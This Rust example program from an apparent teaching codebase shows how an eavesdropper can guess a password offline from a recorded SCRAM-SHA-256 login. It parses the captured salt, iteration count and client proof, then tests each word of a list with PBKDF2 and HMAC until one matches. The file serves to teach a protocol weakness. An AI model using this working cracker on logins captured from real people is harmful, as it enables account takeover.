//! What an eavesdropper can do with a recorded login (chapter 9): guess
//! the password offline, one PBKDF2 per guess, with nobody to stop it.
//!
//! `cargo run -q --example guess -- docs/examples/login.txt docs/examples/words.txt`
//!
//! The login file holds the `data` of the first three `AUTH` messages of a
//! SCRAM-SHA-256 login, one a line (client-first, server-first,
//! client-final; `#` lines are comments), as `--trace` shows them. Every
//! byte of them crossed the network in the clear. For each word of the word
//! list, this program computes the proof a client knowing that word would
//! have sent, exactly as a client does, and compares it with the recorded
//! one. It exits with 0 when a word matches, 1 when none does.
//!
//! No server is involved, so no lockout and no delay apply: the only brake
//! is the iteration count, paid once per guess. The program prints what
//! each guess cost here.

use std::num::NonZeroU32;
use std::process::ExitCode;
use std::time::Instant;

use socket_chat::base64;
use socket_chat::crypto::{ct, hmac::hmac, pbkdf2, sha256};

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let [login, words] = args.as_slice() else {
        eprintln!("usage: guess LOGIN_FILE WORD_LIST");
        return ExitCode::from(2);
    };
    let (login, words) = match (
        std::fs::read_to_string(login),
        std::fs::read_to_string(words),
    ) {
        (Ok(login), Ok(words)) => (login, words),
        (Err(e), _) | (_, Err(e)) => {
            eprintln!("guess: {e}");
            return ExitCode::from(2);
        }
    };
    let recorded = match Recorded::parse(&login) {
        Some(recorded) => recorded,
        None => {
            eprintln!("guess: the login file needs three SCRAM messages");
            return ExitCode::from(2);
        }
    };
    println!(
        "salt {} bytes, {} iterations per guess",
        recorded.salt.len(),
        recorded.iterations
    );
    let start = Instant::now();
    for (tried, word) in words.lines().filter(|w| !w.is_empty()).enumerate() {
        if recorded.is_password(word) {
            let seconds = start.elapsed().as_secs_f64();
            println!(
                "the password is {word:?}: found at guess {} after {seconds:.2} s ({:.0} ms a guess)",
                tried + 1,
                seconds * 1e3 / (tried + 1) as f64
            );
            return ExitCode::SUCCESS;
        }
    }
    println!("no word of the list matches");
    ExitCode::from(1)
}

/// What a recorded login gives away.
struct Recorded {
    salt: Vec<u8>,
    iterations: NonZeroU32,
    /// client-first-bare, server-first, client-final without the proof.
    auth_message: String,
    proof: Vec<u8>,
}

impl Recorded {
    fn parse(text: &str) -> Option<Recorded> {
        let mut lines = text
            .lines()
            .filter(|l| !l.starts_with('#') && !l.is_empty());
        let (first, server_first, last) = (lines.next()?, lines.next()?, lines.next()?);
        let bare = first.strip_prefix("n,,")?;
        // The server-first message's attributes: r=NONCE,s=SALT,i=COUNT.
        let attribute = |key: &str| {
            server_first
                .split(',')
                .find_map(|part| part.strip_prefix(key))
        };
        let salt = base64::decode(attribute("s=")?).ok()?;
        let iterations = NonZeroU32::new(attribute("i=")?.parse().ok()?)?;
        let (without_proof, proof) = last.rsplit_once(",p=")?;
        Some(Recorded {
            salt,
            iterations,
            auth_message: format!("{bare},{server_first},{without_proof}"),
            proof: base64::decode(proof).ok()?,
        })
    }

    /// Would a client that knows `guess` have sent the recorded proof?
    /// The same arithmetic as `ClientFirst::receive_server_first`.
    fn is_password(&self, guess: &str) -> bool {
        let salted = pbkdf2::derive(guess.as_bytes(), &self.salt, self.iterations);
        let client_key = hmac(&salted, b"Client Key");
        let stored_key = sha256::digest(&client_key);
        let signature = hmac(&stored_key, self.auth_message.as_bytes());
        let proof: Vec<u8> = client_key
            .iter()
            .zip(signature)
            .map(|(key, sig)| key ^ sig)
            .collect();
        ct::eq(&proof, &self.proof)
    }
}
